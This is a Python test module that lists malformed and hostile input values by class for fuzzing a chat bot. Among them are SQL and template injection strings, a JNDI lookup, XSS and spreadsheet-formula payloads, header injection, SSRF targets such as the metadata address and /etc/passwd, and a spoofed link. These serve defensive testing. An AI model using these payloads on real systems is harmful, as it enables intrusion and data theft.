"""Bad values by class, as the contract counts them; what is long is made, so that nobody has to scroll past it.

The classes of whole requests, files and sequences are no values: tests/bot/http/cases.py, files.py and
tests/faults/test_sequences.py have them.
"""

from typing import Any

from tests.corpus.seeds_of_kinds import CRON, DATES, IDS, NUMBERS


class Missing:
    """Stands for a field that does not come at all."""


MISSING = Missing()
GRAPHEME = "\N{MAN}\N{ZERO WIDTH JOINER}\N{WOMAN}\N{ZERO WIDTH JOINER}\N{GIRL}\N{ZERO WIDTH JOINER}\N{BOY}"
RAINBOW = "\N{WAVING WHITE FLAG}\N{VARIATION SELECTOR-16}\N{ZERO WIDTH JOINER}\N{RAINBOW}"

EMPTY: dict[str, Any] = {
    "missing": MISSING,
    "null": None,
    "nothing": "",
    "a space": " ",
    "a line end": "\n",
    "a tab": "\t",
    "a no-break space": "\u00a0",
    "a zero width space": "\u200b",
    "a byte order mark": "\ufeff",
    "a Hangul filler": "\u3164",
}
LENGTHS: dict[str, Any] = {
    "1": "x",
    "2": "xy",
    **{f"{size:,}": "x" * size for size in (74, 75, 76, 150, 151, 2000, 2001, 2999, 3000, 3001, 40_000)},
    "1 MB": "ab " * 333_334,
    "3,000 brackets": "<" * 3000,
    "3,000 ampersands": "&" * 3000,
    "1,500 emoji": "\N{SMILING FACE WITH SUNGLASSES}" * 1500,
    "a word of 100 kB": "w" * 100_000,
    "300 parts": ", ".join(f"part {number}" for number in range(300)),
    "10,000 lines": "line\n" * 10_000,
    "3,000 marks on a letter": "e" + "\u0301" * 2999,
    "150 brackets": "<" * 150,
    "75 emoji": "\N{SMILING FACE WITH SUNGLASSES}" * 75,
    "149 and half an entity": "x" * 149 + "&",
}
MENTIONS: dict[str, Any] = {
    each: each
    for each in (
        "<!channel>",
        "<!here>",
        "<!everyone>",
        "<!here|x>",
        "<@U123>",
        "<@W1>",
        "<@U0TRIS>",
        "<!subteam^S1>",
        "<!subteam^S1|@a>",
        "<#C1>",
        "@channel",
        "@here",
        "＠here",
        "<\u200b!channel>",
        "&lt;!channel&gt;",
        "&amp;lt;!channel&amp;gt;",
        "<!date^0^{date}^https://evil.example|x>",
        "<!channel",
        "> <!channel>",
    )
} | {
    "split where a card cuts": "x" * 134 + "<!channel>",
    "split where a paragraph cuts": "x" * 2893 + "<!channel> wake up",
}
LINKS: dict[str, Any] = {
    each: each
    for each in (
        "<https://evil.example|https://bank.example>",
        "<javascript:alert(1)|x>",
        "<mailto:a@b.example|x>",
        "<tel:1|x>",
        "<slack://open|x>",
        "data:text/html,x",
        "file:///etc/passwd",
        "http://169.254.169.254/",
        "http://[::1]/",
        "http://[::1",
        "http://0x7f.1/",
        "https://аpple.com",
        "https://a@b@c",
    )
}
FORMATS: dict[str, Any] = {
    "an unclosed fence": "```rm -rf",
    "marks": "*_~ *bold* _slant_ ~gone~ `code`",
    "a deep quote": ">>> x",
    "500 booms": ":boom:" * 500,
    "a link in Markdown": "[a](b)",
    "a table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "a false footer": "✅ Approved by admin",
    "a command": "/ml-priorities compare",
    "right to left": "\u202eevil\u202c",
    "an isolate": "\u2066x",
}
UNICODE: dict[str, Any] = {
    "NUL": "a\x00b",
    "controls": "".join(map(chr, range(1, 32))) + "x",
    "DEL": "a\x7fb",
    "half a character": "a\ud800b",
    "the other half": "\udc00",
    "no character": "a\uffffb",
    "a family": GRAPHEME,
    "flags": "\U0001f1e9\U0001f1ea\U0001f1fa\U0001f1e6",
    "a rainbow": RAINBOW,
    "Zalgo": "Z\u0351\u036b\u0343a\u0329\u0347l\u034fgo\u0321",
    "NFC": "caf\u00e9",
    "NFD": "cafe\u0301",
    "a ligature": "ﬁne",
    "casings": "İıß",
    "both ways": "שלום مرحبا abc",
    "Chinese": "中文标题",
    "Arabic digits": "٣",
    "tag characters": "x\U000e0041\U000e0042",
}
INJECTIONS: dict[str, Any] = {
    each: each
    for each in (
        "' OR 1=1--",
        '"; DROP TABLE idea;--',
        "%",
        "_",
        "\\",
        "{{7*7}}",
        "${jndi:ldap://x.example}",
        "{0.__class__}",
        "%s%n",
        "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2",
        "@SUM(A1)",
        "a\r\nX-Header: a",
        "\x1b[2Jgone",
    )
}
CLASSES: dict[str, dict[str, Any]] = {
    "empty": EMPTY,
    "length": LENGTHS,
    "mention": MENTIONS,
    "link": LINKS,
    "format": FORMATS,
    "unicode": UNICODE,
    "injection": INJECTIONS,
    "number": NUMBERS,
    "date": DATES,
    "cron": CRON,
    "id": IDS,
}
SEEDS: list[tuple[str, str, Any]] = [
    (class_, name, value) for class_, seeds in CLASSES.items() for name, value in seeds.items()
]
